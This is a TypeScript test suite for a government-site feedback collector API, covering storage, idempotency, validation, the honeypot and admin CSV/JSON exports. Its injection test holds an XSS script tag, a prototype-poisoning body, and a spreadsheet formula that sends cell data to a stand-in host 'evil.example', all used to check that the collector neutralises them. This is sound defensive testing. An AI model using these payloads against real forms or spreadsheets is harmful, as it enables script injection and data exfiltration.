/**
 * The collector's HTTP API on a real database, once per dialect (a SQLite file; PostgreSQL when the runner
 * gives one): storing each kind, references, idempotency (repeats, concurrent repeats), the tally, field
 * errors in the elements' shape, bad input of every sort (each answered with its status, nothing stored),
 * script kept as text, the honeypot, the admin list and exports (CSV that a spreadsheet opens safely).
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { DIALECTS, auth, envelope, post, storedCount, suiteApp } from './helpers.js';

const REFERENCE = /^(PV|PD|FB)-\d{4}-\d{6}$/;
const year = new Date().getUTCFullYear();

for (const dialect of DIALECTS) {
  describe(`collector on ${dialect}`, () => {
    const t = suiteApp(dialect);

    describe('storing', () => {
      it('stores each kind and answers 201 with a reference numbered per kind and year', async () => {
        const before = await storedCount(t);
        const vote = await post(t.app, envelope('page-vote'));
        const details = await post(t.app, envelope('page-vote-details'));
        const feedback = await post(t.app, envelope('feedback'));
        const second = await post(t.app, envelope('feedback'));
        for (const response of [vote, details, feedback, second]) {
          assert.equal(response.statusCode, 201, response.body);
          assert.match(response.json().reference, REFERENCE);
          assert.equal(response.json().status, 'received');
        }
        assert.equal(vote.json().reference.slice(0, 8), `PV-${year}-`);
        assert.equal(details.json().reference.slice(0, 8), `PD-${year}-`);
        const first = Number(feedback.json().reference.slice(-6));
        assert.equal(second.json().reference, `FB-${year}-${String(first + 1).padStart(6, '0')}`);
        assert.equal(await storedCount(t), before + 4);
      });

      it('keeps the envelope as sent, with the time of receipt and a client hash but no address', async () => {
        const sent = envelope('feedback', {
          type: { code: 'inquiry', label: 'استفسار' },
          message: 'متى يصدر الترخيص؟',
          service: 'building-permits',
          contact: { name: 'سارة', email: 'sara@example.sa', mobile: '+966501234567', channel: 'sms' },
          consent: true,
          captchaToken: 'added-by-the-page-in-ep-submit',
        });
        const response = await post(t.app, sent);
        assert.equal(response.statusCode, 201);
        const list = await t.app.inject({ url: `/admin/submissions?kind=feedback&limit=1000`, headers: auth });
        const item = list.json().items.find((stored: { id: string }) => stored.id === sent.id);
        assert.deepEqual(item.data, sent.data);
        assert.deepEqual(item.page, sent.page);
        assert.equal(item.submittedAt, sent.submittedAt);
        assert.equal(item.reference, response.json().reference);
        assert.match(item.client, /^[0-9a-f]{16}$/);
        assert.ok(Math.abs(Date.parse(item.receivedAt) - Date.now()) < 60_000);
        const everything = JSON.stringify(await t.sql('SELECT * FROM submissions'));
        assert.ok(!everything.includes('127.0.0.1'), 'the client address is stored nowhere');
        if (t.file)
          assert.ok(
            !readFileSync(t.file).includes('127.0.0.1') && !readFileSync(`${t.file}-wal`).includes('127.0.0.1'),
            'not in the file either',
          );
      });
    });

    describe('idempotency on the envelope id', () => {
      it('answers a repeat with the first answer and stores nothing; refuses another body under the same id', async () => {
        const sent = envelope('feedback');
        const first = await post(t.app, sent);
        const count = await storedCount(t);
        const repeat = await post(t.app, sent);
        assert.equal(repeat.statusCode, 201);
        assert.equal(repeat.body, first.body);
        assert.equal(repeat.headers['idempotent-replayed'], 'true');
        assert.equal(first.headers['idempotent-replayed'], undefined);
        // The IETF Idempotency-Key draft's answer to a key reused with another payload (more in ids.test.ts).
        const changed = await post(t.app, {
          ...sent,
          data: { ...(sent.data as object), message: 'A retry the page amended in ep-submit.' },
        });
        assert.equal(changed.statusCode, 422);
        assert.deepEqual(
          changed.json().fieldErrors.map((error: { code: string }) => error.code),
          ['idempotency-key-reused'],
        );
        assert.equal(await storedCount(t), count);
      });

      it('stores once when the same id arrives many times at once (two tabs, a retry racing its original)', async () => {
        const sent = envelope(
          'page-vote',
          { answer: 'no' },
          { page: { url: 'https://www.example.gov.sa/race', title: '', lang: '' } },
        );
        const count = await storedCount(t);
        const answers = await Promise.all(Array.from({ length: 20 }, () => post(t.app, sent)));
        assert.ok(answers.every((response) => response.statusCode === 201));
        assert.equal(new Set(answers.map((response) => response.body)).size, 1);
        assert.equal(answers.filter((response) => response.headers['idempotent-replayed'] !== 'true').length, 1);
        assert.equal(await storedCount(t), count + 1);
        const tally = await t.app.inject({
          url: `/tally?page=${encodeURIComponent('https://www.example.gov.sa/race')}`,
        });
        assert.deepEqual(tally.json(), { yes: 0, total: 1 }, 'the tally counted it once');
      });

      it('gives distinct, gapless references to many submissions at once', async () => {
        const answers = await Promise.all(Array.from({ length: 40 }, () => post(t.app, envelope('page-vote-details'))));
        const numbers = answers.map((response) => Number(response.json().reference.slice(-6))).sort((a, b) => a - b);
        assert.equal(new Set(numbers).size, 40);
        assert.equal(numbers.at(-1)! - numbers[0]!, 39);
      });

      it('refuses an Idempotency-Key that is not the envelope id (422), storing nothing', async () => {
        const count = await storedCount(t);
        const response = await post(t.app, envelope('page-vote'), {
          'idempotency-key': '00000000-0000-4000-8000-000000000000',
        });
        assert.equal(response.statusCode, 422);
        assert.deepEqual(
          response.json().fieldErrors.map((error: { field: string }) => error.field),
          ['id'],
        );
        assert.equal(await storedCount(t), count);
      });
    });

    describe('the page tally', () => {
      it('counts the page-vote answers filed under each page', async () => {
        const page = (url: string) => ({ page: { url, title: 'x', lang: 'en' } });
        for (const answer of ['yes', 'yes', 'no'])
          await post(t.app, envelope('page-vote', { answer }, page('https://www.example.gov.sa/a')));
        await post(t.app, envelope('page-vote', { answer: 'yes' }, page('https://www.example.gov.sa/b')));
        await post(t.app, envelope('page-vote-details', undefined, page('https://www.example.gov.sa/a')));
        const a = await t.app.inject({ url: `/tally?page=${encodeURIComponent('https://www.example.gov.sa/a')}` });
        const b = await t.app.inject({ url: `/tally?page=${encodeURIComponent('https://www.example.gov.sa/b')}` });
        const none = await t.app.inject({
          url: `/tally?page=${encodeURIComponent('https://www.example.gov.sa/none')}`,
        });
        assert.deepEqual(a.json(), { yes: 2, total: 3 });
        assert.deepEqual(b.json(), { yes: 1, total: 1 });
        assert.deepEqual(none.json(), { yes: 0, total: 0 });
        assert.equal(a.headers['cache-control'], 'no-store');
      });

      it('needs a page (422)', async () => {
        const response = await t.app.inject({ url: '/tally' });
        assert.equal(response.statusCode, 422);
        assert.deepEqual(response.json().fieldErrors, [
          { field: 'page', code: 'required', message: 'page is required.' },
        ]);
      });
    });

    describe('bad input: each answered with its status, nothing stored', () => {
      const cases: Array<{ name: string; send: () => ReturnType<typeof post>; status: number; fields?: string[] }> = [
        { name: 'malformed JSON', send: () => post(t.app, '{"id": "x", "kind": '), status: 400 },
        { name: 'an empty body', send: () => post(t.app, ''), status: 400 },
        { name: 'JSON that is not an object', send: () => post(t.app, '[1, 2]'), status: 422, fields: [] },
        { name: 'a prototype-poisoning key', send: () => post(t.app, '{"__proto__": {"admin": true}}'), status: 400 },
        {
          name: 'a body that is not JSON',
          send: () =>
            t.app.inject({
              method: 'POST',
              url: '/submissions',
              headers: { 'content-type': 'text/plain' },
              payload: 'answer=yes',
            }),
          status: 415,
        },
        {
          name: 'a form post',
          send: () =>
            t.app.inject({
              method: 'POST',
              url: '/submissions',
              headers: { 'content-type': 'application/x-www-form-urlencoded' },
              payload: 'answer=yes',
            }),
          status: 415,
        },
        {
          name: 'a body over the limit',
          send: () =>
            post(t.app, envelope('feedback', { type: { code: 'x', label: 'x' }, message: 'x'.repeat(70_000) })),
          status: 413,
        },
        {
          name: 'an unknown kind',
          send: () => post(t.app, envelope('feedback', undefined, { kind: 'survey' })),
          status: 422,
          fields: ['kind'],
        },
        {
          name: 'no kind',
          send: () => post(t.app, envelope('feedback', undefined, { kind: undefined })),
          status: 422,
          fields: ['kind'],
        },
        {
          name: 'wrong types',
          send: () =>
            post(
              t.app,
              envelope(
                'page-vote-details',
                { answer: true, reasons: 'clear', comment: 5 },
                { locale: 'fr', submittedAt: 12 },
              ),
            ),
          status: 422,
          fields: ['locale', 'submittedAt', 'answer', 'reasons', 'comment'],
        },
        {
          name: 'an id that is not a UUID',
          send: () => post(t.app, envelope('page-vote', undefined, { id: 'abc' })),
          status: 422,
          fields: ['id'],
        },
        {
          name: 'a field the envelope does not have',
          send: () => post(t.app, envelope('page-vote', undefined, { admin: true })),
          status: 422,
          fields: ['admin'],
        },
        {
          name: 'a page URL that is not one',
          send: () =>
            post(t.app, envelope('page-vote', undefined, { page: { url: 'not a url', title: '', lang: '' } })),
          status: 422,
          fields: ['page.url'],
        },
        {
          name: 'a NUL character',
          send: () => post(t.app, envelope('feedback', { type: { code: 'x', label: 'x' }, message: 'a\u0000b' })),
          status: 422,
          fields: ['message'],
        },
        {
          name: 'a lone surrogate',
          send: () =>
            post(
              t.app,
              '{"id":"0b7e8f5c-2c1d-4a55-9c3e-2f4d5b6a7c81","kind":"page-vote","page":{"url":"https://x.sa/","title":"\\ud800","lang":""},"locale":"ar","submittedAt":"2026-03-01T00:00:00Z","privacyNotice":"1","data":{"answer":"yes"}}',
            ),
          status: 422,
          fields: ['page.title'],
        },
        {
          name: 'details with neither reason nor comment',
          send: () => post(t.app, envelope('page-vote-details', { answer: 'yes', reasons: [], comment: '' })),
          status: 422,
          fields: ['comment'],
        },
        {
          name: 'three reasons',
          send: () =>
            post(
              t.app,
              envelope('page-vote-details', {
                answer: 'yes',
                reasons: ['a', 'b', 'c'].map((code) => ({ code, label: code })),
                comment: '',
              }),
            ),
          status: 422,
          fields: ['reasons'],
        },
      ];
      for (const { name, send, status, fields } of cases) {
        it(`${name}: ${status}`, async () => {
          const count = await storedCount(t);
          const response = await send();
          assert.equal(response.statusCode, status, response.body);
          const body = response.json();
          assert.equal(typeof body.message, 'string');
          if (fields)
            assert.deepEqual(
              body.fieldErrors.map((error: { field: string }) => error.field).sort(),
              [...fields].sort(),
            );
          assert.equal(await storedCount(t), count);
        });
      }
    });

    describe('field errors, in the shape the feedback form shows', () => {
      it('names each field with a code the form knows', async () => {
        const response = await post(
          t.app,
          envelope('feedback', {
            type: { code: 'complaint', label: 'Complaint' },
            message: '',
            contact: { email: 'not-an-address', channel: 'sms' },
          }),
        );
        assert.equal(response.statusCode, 422);
        const byField = (a: { field: string }, b: { field: string }) => a.field.localeCompare(b.field);
        assert.deepEqual(
          response
            .json()
            .fieldErrors.map(({ field, code }: { field: string; code: string }) => ({ field, code }))
            .sort(byField),
          [
            { field: 'consent', code: 'required' },
            { field: 'contact.email', code: 'invalid' },
            { field: 'contact.mobile', code: 'required' },
            { field: 'message', code: 'required' },
          ],
        );
        for (const error of response.json().fieldErrors) assert.equal(typeof error.message, 'string');
      });

      it('says too-long with the limit, and accepts an address in Arabic script', async () => {
        const long = await post(
          t.app,
          envelope('feedback', { type: { code: 'x', label: 'x' }, message: 'م'.repeat(5001) }),
        );
        assert.deepEqual(long.json().fieldErrors, [
          { field: 'message', code: 'too-long', message: 'message is longer than 5000 characters.' },
        ]);
        const arabic = await post(
          t.app,
          envelope('feedback', {
            type: { code: 'x', label: 'x' },
            message: 'رسالة',
            contact: { email: 'محمد@مثال.السعودية', channel: 'email' },
            consent: true,
          }),
        );
        assert.equal(arabic.statusCode, 201, arabic.body);
      });
    });

    describe('script in every text field', () => {
      it('is stored as text, exported as text, and CSV cells cannot run as formulas', async () => {
        const script = '<script>alert(1)</script>';
        const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
        const sent = envelope(
          'feedback',
          {
            type: { code: `${script}`, label: `+${script}` },
            message: formula,
            service: `@SUM(1+1)${script}`,
            contact: { name: `-2+3${script}`, email: 'a@b.sa', channel: 'email' },
            consent: true,
          },
          // The URL as the element sends it (the URL parser escapes `<` and `>` in a path; a query string would not be kept).
          {
            page: {
              url: new URL('https://www.example.gov.sa/x/<script>').href,
              title: `\t=1+1 ${script}`,
              lang: script.slice(0, 20),
            },
            privacyNotice: `=${script}`.slice(0, 64),
          },
        );
        const response = await post(t.app, sent);
        assert.equal(response.statusCode, 201, response.body);

        const json = await t.app.inject({ url: '/admin/submissions/export?format=json&kind=feedback', headers: auth });
        assert.equal(json.statusCode, 200);
        assert.match(
          String(json.headers['content-disposition']),
          /^attachment; filename="submissions-feedback\.json"; filename\*=UTF-8''submissions-feedback\.json$/,
        );
        const item = json.json().find((stored: { id: string }) => stored.id === sent.id);
        assert.deepEqual(item.data, sent.data, 'stored as sent, as text');
        assert.deepEqual(item.page, sent.page);

        const csv = await t.app.inject({ url: '/admin/submissions/export?kind=feedback', headers: auth });
        assert.equal(csv.statusCode, 200);
        assert.equal(csv.headers['content-type'], 'text/csv; charset=utf-8');
        assert.ok(csv.body.startsWith('\uFEFF"reference"'));
        const line = csv.body.split('\r\n').find((row) => row.includes(sent.id as string))!;
        const cells = parseCsvLine(line);
        for (const cell of cells)
          assert.doesNotMatch(cell, /^\s*[=+\-@\t\r]/, `a cell a spreadsheet would run: ${cell}`);
        assert.ok(cells.includes(`'${formula}`));
        assert.ok(cells.includes(`'-2+3${script}`));
        assert.ok(cells.includes(`'@SUM(1+1)${script}`));
        assert.ok(cells.includes(`'\t=1+1 ${script}`));
        assert.ok(cells.includes(script), 'plain text stays as it was');
      });
    });

    describe('the honeypot, checked again on the server', () => {
      it('answers a filled honeypot as if stored, and stores nothing', async () => {
        const count = await storedCount(t);
        const sent = envelope('feedback', {
          type: { code: 'x', label: 'x' },
          message: 'Buy now',
          website: 'http://spam.example',
        });
        const response = await post(t.app, sent);
        assert.equal(response.statusCode, 201);
        assert.equal(response.json().id, sent.id);
        assert.match(response.json().reference, /^FB-\d{4}-\d{6}$/);
        assert.equal(await storedCount(t), count);
      });
    });

    describe('administration', () => {
      it('lists a page at a time with a cursor, filtered by kind and dates', async () => {
        const all = await t.app.inject({ url: '/admin/submissions?limit=1000', headers: auth });
        const total = all.json().items.length;
        assert.ok(total > 10);
        const seen: string[] = [];
        let next: string | undefined;
        do {
          const page = await t.app.inject({
            url: `/admin/submissions?limit=7${next ? `&after=${next}` : ''}`,
            headers: auth,
          });
          assert.equal(page.statusCode, 200);
          seen.push(...page.json().items.map((item: { id: string }) => item.id));
          next = page.json().next;
        } while (next);
        assert.equal(seen.length, total);
        assert.equal(new Set(seen).size, total);

        const votes = await t.app.inject({ url: '/admin/submissions?kind=page-vote&limit=1000', headers: auth });
        assert.ok(
          votes.json().items.length > 0 &&
            votes.json().items.every((item: { kind: string }) => item.kind === 'page-vote'),
        );
        const today = new Date().toISOString().slice(0, 10);
        const byDay = await t.app.inject({
          url: `/admin/submissions?from=${today}&to=${today}&limit=1000`,
          headers: auth,
        });
        assert.equal(byDay.json().items.length, total);
        const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
        const later = await t.app.inject({ url: `/admin/submissions?from=${tomorrow}`, headers: auth });
        assert.deepEqual(later.json().items, []);
        const earlier = await t.app.inject({ url: `/admin/submissions?to=2000-01-01T00:00:00Z`, headers: auth });
        assert.deepEqual(earlier.json().items, []);
      });

      it('refuses bad filters (422) and any request without the token (401)', async () => {
        const bad = await t.app.inject({ url: '/admin/submissions?kind=survey&from=yesterday&limit=0', headers: auth });
        assert.equal(bad.statusCode, 422);
        assert.deepEqual(
          bad.json().fieldErrors.map((error: { field: string }) => error.field),
          ['kind', 'from', 'limit'],
        );
        for (const headers of [
          {},
          { authorization: 'Bearer wrong-token' },
          { authorization: `Basic ${auth.authorization.slice(7)}` },
        ]) {
          for (const url of ['/admin/submissions', '/admin/submissions/export']) {
            const response = await t.app.inject({ url, headers });
            assert.equal(response.statusCode, 401);
            assert.equal(response.headers['www-authenticate'], 'Bearer realm="ep-collector"');
          }
        }
      });
    });

    it('answers /health with the database it uses', async () => {
      const response = await t.app.inject({ url: '/health' });
      assert.deepEqual(response.json(), { status: 'ok', database: dialect });
    });
  });
}

/** One CSV line (every cell quoted, quotes doubled) into its cells. */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  const pattern = /"((?:[^"]|"")*)"(?:,|$)/gy;
  let match: RegExpExecArray | null;
  while ((match = pattern.exec(line))) cells.push(match[1]!.replace(/""/g, '"'));
  return cells;
}
